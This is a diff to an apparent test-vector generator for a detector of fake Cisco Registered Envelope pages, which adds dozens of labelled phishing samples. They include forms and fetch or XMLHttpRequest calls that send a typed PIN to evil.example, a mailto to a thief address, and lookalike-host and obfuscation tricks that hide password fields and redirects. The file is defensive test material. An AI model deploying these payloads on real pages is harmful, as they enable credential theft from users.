@@ -308,6 +308,97 @@ RC4 = ("function r(k,s){for(var i=0,j=0,t=[];i<256;i++){t[i]=i}for(i=0;i<256;i++
        "%256}return String.fromCharCode(s.charCodeAt(0)^t[j])}")
 
 
+def led_elsewhere(kind, title, genuine, service):
+    """Hosts decide: what a page names beside the incumbent's host is told, every one."""
+    def fake(name, comment, body, signals, script=service, head=""):
+        kind(f"fake_{name}", "Suspicious", comment, page(title, genuine + body, script, head), signals)
+
+    evil = "https://evil.example/"
+    fake("second_form", "A second form behind the genuine one", f"<form action={evil}a></form><form action={evil}b></form>",
+         f"key_server form_target={evil}a form_target={evil}b")
+    fake("button_target", "A button that sends the genuine form elsewhere",
+         f'<form action="https://res.cisco.com/envelopeopener/x"><button formaction="{evil}">Open</button></form>',
+         f"form_target={evil}")
+    fake("user_before_host", "The incumbent's host is who signs in", '<form action="https://res.cisco.com:443@evil.example/x"></form>',
+         f"form_target={evil}x")
+    fake("host_within_host", "A host that begins like the incumbent's",
+         '<form action="https://res.cisco.com.evil.example/envelopeopener/x"></form>',
+         "form_target=https://res.cisco.com.evil.example/envelopeopener/x")
+    fake("host_backslash", "Slashes that lean the other way", r'<form action="https:\\evil.example\@res.cisco.com/"></form>',
+         f"form_target={evil}@res.cisco.com/")
+    fake("host_escaped", "A host in percent signs, capitals and line ends",
+         '<form action="HTTPS://%45vil.Exa&#10;mple:443/x"></form>', f"form_target={evil}x")
+    fake("base", "A base that moves what is relative", '<form action="login.php"></form>',
+         f"form_target={evil}deep/login.php", head=f'<base href="{evil}deep/page">')
+    fake("host_without_slashes", "A scheme and no slashes", '<form action="https:evil.example/x"></form>',
+         f"form_target={evil}x")
+    fake("host_of_scheme_only", "The host without scheme", '<form action="//evil.example/x"></form>', "form_target=//evil.example/x")
+    fake("no_tls", "The incumbent's host without TLS", '<form action="http://res.cisco.com/envelopeopener/x"></form>',
+         "form_target=http://res.cisco.com/envelopeopener/x")
+    fake("mailed", "A form that mails what was typed", '<form action="mailto:thief@evil.example"></form>',
+         "form_target=mailto:thief@evil.example")
+    fake("fetch", "A script that sends what was typed", "<input id=pin>", f"script_target={evil}p",
+         service + f'fetch("{evil}p",{{method:"POST",body:pin.value}})')
+    fake("fetch_disguised", "The same, taken apart", "<input id=pin>", f"script_target={evil}p",
+         service + r"""window['fe'+'tch']('\x68ttps:' + "\/\/evil.ex" + 'ample\u002fp', {method: 'POST'})""")
+    fake("xhr", "The same by XMLHttpRequest", "", f"script_target={evil}p",
+         service + f"var u = '{evil}p'; /* ' */ var r = new XMLHttpRequest(); r.open ('POST', u)")
+    fake("form_action_set", "A script that sets the form's target", "", f"script_target={evil}p",
+         service + f"document.forms[0].action = '{evil}p'")
+    fake("field_made", "A script that makes the field", "", "password_field",
+         service + "var f = document.createElement('input'); f.setAttribute('type', 'password')")
+    fake("field_written", "A script that writes the field in base64", "", f"password_field form_target={evil}",
+         service + f"document.write(atob('{base64.b64encode(b'<form action=https://evil.example/><input type=password>').decode()}'))")
+    fake("field_percent", "A script that writes the field in percent signs", "", f"password_field form_target={evil}", service +
+         "document.write(unescape('%3Cform%20action%3Dhttps%3A//evil.example/%3E%3Cinput%20type%3Dpassword%3E'))")
+    codes = ",".join(str(c) for c in b"<input type=password>")
+    fake("field_numbers", "A script that writes the field in numbers", "", "password_field",
+         service + f"document.write(String.fromCharCode({codes}))")
+    fake("frame", "A frame of another host", f"<iframe src={evil}></iframe>", f"frame_source={evil}")
+    fake("padded", "A form behind more tags than are looked at", "<br>" * 10000 + f"<form action={evil}></form>", "key_server")
+    fake("script_elsewhere", "A program of another host", f"<script src={evil}x.js></script>", f"external_script={evil}x.js")
+    kind("cisco_below_host", "CiscoRegistered", "A host below the incumbent's", page(
+        title, genuine.replace("res.cisco.com:443", "eu.res.cisco.com"), service), "key_server")
+
+
+def disguised(kind):
+    """Fields and refreshes, as a browser finds them."""
+    def fake(name, comment, body, signals, head=""):
+        kind(f"fake_{name}", "Suspicious", comment, page("Registered envelope", body, "", head), signals)
+
+    field = "<input type=password name=p>"
+    fake("field_entity", "A type in character references", "<input type=pass&#119;ord>", "password_field imitates")
+    fake("field_capitals", "Capitals, no quotes, slashes", "<INPUT/TYPE=PassWord >", "password_field")
+    fake("field_behind_comment", "A comment that ends in --!>", f"<!-- --!>{field}<!-- -->", "password_field")
+    fake("field_behind_short_comment", "A comment that ends at once", f"<!-->{field}<!-- -->", "password_field")
+    fake("field_in_svg_title", "A title that is none", f"<svg><title>{field}</title></svg>", "password_field")
+    fake("field_in_shadow", "A field in a template", f"<div><template shadowrootmode=open>{field}</template></div>", "password_field")
+    fake("field_in_frame", "A field in a frame's own page", f'<iframe srcdoc="{field.replace("<", "&lt;")}"></iframe>', "password_field")
+    fake("field_in_data", "A field in a frame of base64",
+         f'<iframe src="data:text/html;base64,{base64.b64encode(field.encode()).decode()}"></iframe>', "password_field")
+    fake("field_dotted", "A text field that shows dots", '<input type=text style="-webkit-text-security: disc">', "password_field")
+    fake("field_named", "A text field that asks for a password", "<input placeholder='Your email password'>", "password_field")
+    fake("refresh_without_url", "A refresh without the word url", "", "redirect=https://evil.example/",
+         '<meta http-equiv=refresh content="0;https://evil.example/">')
+    fake("refresh_quoted", "A refresh in quotes and capitals", "", "redirect=https://evil.example/",
+         """<meta http-equiv=" REFRESH" content=" 0 , uRl = 'https://evil.example/'x">""")
+    fake("refresh_loaded", "A handler that leads away", '<svg onload="top [\'loca\' + \'tion\'] = \'https://evil.example/\'"></svg>',
+         "redirect=https://evil.example/")
+    kind("fake_utf16", "Suspicious", "A fake in UTF-16", page("Secure message", field).decode().encode("utf-16"),
+         "password_field imitates utf16")
+    kind("fake_utf16_unmarked", "Suspicious", "A fake in UTF-16 that does not say so",
+         page("Secure message", field).decode().encode("utf-16-be"), "password_field imitates")
+    for name, body in (("xmp", f"<xmp>{field}</xmp>"), ("comment", f"<!-- {field} -->"), ("textarea", f"<textarea>{field}</textarea>"),
+                       ("plaintext", f"<plaintext>{field}"), ("attribute", f"<p title='{field}'>x</p>"),
+                       ("noembed", f"<noembed>{field}</noembed>")):
+        kind(f"field_shown_as_text_{name}", "NotAnEnvelope", "A field that a browser does not make", page("News", body), "no_payload")
+    kind("reload", "NotAnEnvelope", "A refresh that loads the page itself again", page("News", "", "", '<meta http-equiv=refresh content=30>'))
+    kind("redirect_beside", "NotAnEnvelope", "A refresh to a page beside the file",
+         page("Redirection", "", "", '<meta http-equiv=refresh content="0;URL=../x.html">'), "redirect=../x.html")
+    kind("click_away", "NotAnEnvelope", "A button that leads away when it is pressed",
+         page("News", """<button onclick="location.href='https://news.example/'">More</button>"""))
+
+
 def recognised():
     def kind(name, expect, comment, data, signals=""):
         vector(name, expect, comment, data, **({"signals": signals} if signals else {}))
@@ -318,8 +409,9 @@ def recognised():
     title = "Secure Registered Envelope:Your results"
     kind("cisco_form", "CiscoRegistered", "The incumbent's page", page(title, genuine, service),
          "envelope_title key_server key_server_script")
-    kind("cisco_own_host", "CiscoRegistered", "The incumbent's page of an institution's own appliance",
-         page(title, form.format("https://mailsafe.example.com/websafe/open", BLOB)), "envelope_title key_server")
+    kind("cisco_other_host", "Suspicious", "The incumbent's page and path, at a host that nobody can tell from a thief's",
+         page(title, form.format("https://mailsafe.example.com/websafe/open", BLOB)),
+         "envelope_title form_target=https://mailsafe.example.com/websafe/open")
     kind("cisco_open_online", "CiscoRegistered", "A newer page, the payload in a script", page(
         title, '<select id="toSelect"><option>bob@example.net</option></select>'
         '<input type="submit" id="text_i18n.authframe.safr.button.openonline" onclick="openOnline(payload)">',
@@ -350,6 +442,8 @@ def recognised():
          page("Secure message", "", "", '<meta http-equiv="Refresh" content="0; URL=https://evil.example/">'), "redirect")
     kind("fake_unpacked", "Suspicious", "A script that unpacks a page of its own", page(
         "securedoc", "<p>Registered Envelope</p>", f'{RC4}document.write(r("k",atob("{BLOB}")))'), "rc4_loop")
+    led_elsewhere(kind, title, genuine, service)
+    disguised(kind)
     kind("fake_own_marker", "Suspicious", "Our marker on a page with a password field",
          MARKER + page("Secure message", "<input TYPE='Password'>"), "password_field no_header")
     kind("header_missing", "NotAnEnvelope", "An envelope whose header is gone", Envelope().file(header=b""), "no_header")
